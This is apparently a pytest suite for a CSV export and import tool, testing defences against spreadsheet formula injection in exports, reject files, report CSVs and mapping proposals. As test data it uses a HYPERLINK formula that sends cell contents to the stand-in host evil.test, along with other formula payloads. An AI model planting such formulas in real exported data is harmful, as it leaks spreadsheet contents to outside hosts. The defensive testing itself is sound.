"""Formula injection: every CSV the product writes keeps a cell that a spreadsheet would run as
text (a leading '), numbers as numbers, and `servicegap import` reads the original back."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from hypothesis import given, settings
from hypothesis import strategies as st

from servicegap.cli import main_group
from servicegap.lib.csvsafe import RISKY, is_plain_number
from servicegap.transfer import csvio
from servicegap.transfer.registry import Table

EVIL = '=HYPERLINK("http://evil.test/?"&A1,"Click")'


def cli(*args: str) -> Result:
    return CliRunner().invoke(main_group, ["--workspace", "acme", *args])


def ok(result: Result) -> Result:
    assert result.exit_code == 0, result.output + repr(result.exception)
    return result


def rows_of(text: str) -> list[list[str]]:
    """The cells as a spreadsheet sees them."""
    return list(csv.reader(io.StringIO(text)))


def written(rows: list[list[object]], header: tuple[str, ...] = ("a", "b")) -> str:
    out = io.StringIO()
    csvio.write_csv(Table(list(header), rows), out)
    return out.getvalue()


# --- the CSV writer and reader ----------------------------------------------------------------


@pytest.mark.parametrize("text", [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_the_csv_writer_prefixes_a_formula_like_text_cell_with_one_quote(text):
    assert rows_of(written([[text, "plain"]]))[1] == ["'" + text, "plain"]


@pytest.mark.parametrize(
    ("value", "cell"), [(-1.25, "-1.25"), (-3, "-3"), (-1e-05, "-1e-05"), ("-1.25", "-1.25")]
)
def test_the_csv_writer_leaves_a_negative_number_a_number(value, cell):
    assert rows_of(written([[value, "-x"]]))[1] == [cell, "'-x"]


def test_a_carriage_return_inside_a_cell_never_starts_a_row_of_its_own():
    text = written([["hi\r=1+1", "x"], ["a\r\nb", "y"]] * 600)  # more than one chunk of 1000
    assert rows_of(text)[1:3] == [["hi\r=1+1", "x"], ["a\r\nb", "y"]]
    assert len(rows_of(text)) == 1201 and text.count("\n") == 1201 + 600
    assert [cells for _, cells in csvio.read_csv(text.encode(), "f.csv")[2][:2]] == [
        ["hi\r=1+1", "x"],
        ["a\r\nb", "y"],
    ]


def test_the_csv_reader_takes_the_quote_off_again_on_both_of_its_paths():
    plain = "a,b\n'=1+1,'-3\n'don't,''@x\n"
    quoted = plain + '"with, a comma",\'+1\n'
    assert csvio.read_csv(plain.encode(), "f.csv")[2] == [
        (2, ["=1+1", "-3"]),
        (3, ["'don't", "'@x"]),
    ]
    assert csvio.read_csv(quoted.encode(), "f.csv")[2][-1] == (4, ["with, a comma", "+1"])
    spaced = "a,b,c\n x ,'=1 , '=2\n"  # only a ' the writer could have written: first in its cell
    assert csvio.read_csv(spaced.encode(), "f.csv")[2] == [(2, ["x", "=1", "'=2"])]
    blank = "a,b\n,'\t\n"  # a cell "\t" as written: a blank line, as it always was
    assert csvio.read_csv(blank.encode(), "f.csv")[2] == []


# Few characters, so that quotes, risky characters, numbers, blanks and separators meet often.
pieces = st.sampled_from(
    ["'", "=", "+", "-", "@", "\t", "\r", "1", ".5", "e-05", "a", " ", "\xa0", ",", '"', "\n"]
)
cells = st.lists(pieces, max_size=6).map("".join)


@settings(max_examples=1000, deadline=None)
@given(st.lists(st.lists(cells, min_size=2, max_size=2), min_size=1, max_size=5))
def test_the_reader_gives_back_what_the_writer_wrote_stripped_as_always(rows):
    text = written(rows)
    read = csvio.read_csv(text.encode(), "f.csv")
    expected = [[c.strip() for c in r] for r in rows if any(c.strip() for c in r)]
    assert [cells for _, cells in read[2]] == expected
    for line in rows_of(text)[1:]:  # what a spreadsheet sees: never a formula
        for cell in line:
            assert cell[:1] not in RISKY or is_plain_number(cell)


# The fast path (a split at commas) and the csv module must restore alike.
text = st.lists(st.sampled_from(["'", "=", "-", "a", " ", ",", "\n", '"', "\xa0"]), max_size=30)


@settings(max_examples=1000, deadline=None)
@given(text.map("".join))
def test_the_fast_path_restores_what_the_csv_module_path_restores(data):
    try:
        header, line, records = csvio._read(data, "f.csv")
    except Exception:
        return  # not CSV: which error each path gives is transfer/test_csvio's business
    if header is None or csvio._plain_lines(data) is None:
        return
    assert csvio.read_csv(data.encode(), "f.csv") == (line, header, records)


# --- servicegap export and import ----------------------------------------------------------


@pytest.mark.django_db
def test_feedback_posted_as_a_formula_is_exported_as_text_and_imports_back_unchanged(
    client, workspace, tmp_path
):
    from servicegap.feedback.models import Feedback

    for text in (EVIL, "-1.25", "@everyone was rude", "+41 was the number I called"):
        body = {"kind": "complaint", "text": text}
        r = client.post(
            f"/api/v1/public/{workspace.slug}/feedback", body, content_type="application/json"
        )
        assert r.status_code == 201, r.content
    exported = ok(cli("export", "feedback")).stdout
    header, *rows = rows_of(exported)
    texts = sorted(row[header.index("text")] for row in rows)
    assert texts == sorted(
        [f"'{EVIL}", "-1.25", "'@everyone was rude", "'+41 was the number I called"]
    )
    path = tmp_path / "feedback.csv"
    path.write_text(exported, encoding="utf-8")
    Feedback.objects.of(workspace).delete()
    ok(cli("import", "feedback", str(path)))
    stored = sorted(Feedback.objects.of(workspace).values_list("text", flat=True))
    assert stored == sorted([EVIL, "-1.25", "@everyone was rude", "+41 was the number I called"])


@pytest.mark.django_db
def test_an_export_to_a_csv_file_is_neutralised_too(workspace, tmp_path):
    from servicegap.people.models import Unit

    Unit.objects.create(workspace=workspace, code="EVIL", name="=1+1")
    out = tmp_path / "units.csv"
    ok(cli("export", "units", "--output", str(out)))
    assert ["EVIL", "'=1+1", ""] in rows_of(out.read_text(encoding="utf-8"))


@pytest.mark.django_db
def test_the_reject_file_of_an_import_neutralises_the_rejected_rows_cells(workspace, tmp_path):
    source = tmp_path / "units.csv"
    quoted = EVIL.replace('"', '""')
    source.write_text(f'code,name,parent\nOK,Fine,\nBAD,"{quoted}",MARS\n', encoding="utf-8")
    result = ok(cli("import", "units", str(source), "--skip-invalid", "--json"))
    report = json.loads(result.stdout)
    rejects = Path(report["rejects"]).read_text(encoding="utf-8")
    (row,) = rows_of(rejects)[1:]
    assert row[2:] == ["BAD", f"'{EVIL}", "MARS"]


# --- the report pages' CSV ------------------------------------------------------------------


@pytest.mark.django_db
def test_a_report_csv_neutralises_a_formula_like_code_and_keeps_negative_gaps_numbers(
    login, workspace, standards
):
    from tests.report_support import respond

    for x in (3, 4, 5):
        respond(
            workspace,
            answers=[
                ("GREET", "expectation", 6),
                ("GREET", "experience", x),
                ("=1+1", "expectation", 6),
                ("=1+1", "experience", x),
            ],
        )
    response = login("owner").get("/w/acme/reports/gaps/?format=csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert sorted(r["item"] for r in rows) == ["'=1+1", "GREET"]
    greet = next(r for r in rows if r["item"] == "GREET")
    assert greet["gap"].startswith("-") and float(greet["gap"]) == pytest.approx(-2.0)


# --- the Qualtrics mapping proposal (printed, then edited in a spreadsheet) --------------------


def test_the_proposed_mapping_neutralises_a_question_text_used_as_its_label():
    from servicegap.lib.qualtrics import Column, propose, read_mapping

    columns = [Column(0, "RecordedDate", "=1+1", ""), Column(1, "Q1", "-x", "")]
    text = propose(columns, [], set())
    assert [r[4] for r in rows_of(text)[1:]] == ["'=1+1", "'-x"]
    assert [t.column for t in read_mapping(text)] == ["RecordedDate", "Q1"]
